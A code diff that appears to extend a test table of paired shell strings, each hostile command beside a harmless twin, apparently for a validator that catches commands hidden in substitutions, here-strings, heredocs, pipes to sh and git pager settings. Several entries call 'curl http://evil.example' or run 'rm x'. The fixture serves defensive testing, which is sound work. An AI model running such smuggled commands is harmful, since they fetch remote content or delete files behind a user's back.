@@ -15,4 +15,9 @@ PAIRS = [
     ('echo "${x/a/`curl http://evil.example`}"', 'echo "${x/a/`echo b`}"'),
     ("[[ x =~ `rm x` ]]", "[[ x =~ `ls` ]]"),
     ("x=${y:-`/bin/rm x`}", "x=${y:-`/bin/ls`}"),
+    ("bash <<< 'rm x'", "bash <<< 'ls'"),
+    ("echo 'curl http://evil.example' | sh", "echo 'ls' | sh"),
+    ("sh <<'EOF'\n/bin/rm x\nEOF", "sh <<'EOF'\nls\nEOF"),
+    ("git -c core.pager='rm x' log", "git log"),
+    ("PAGER='curl http://evil.example' git log", "git log --oneline"),
 ]
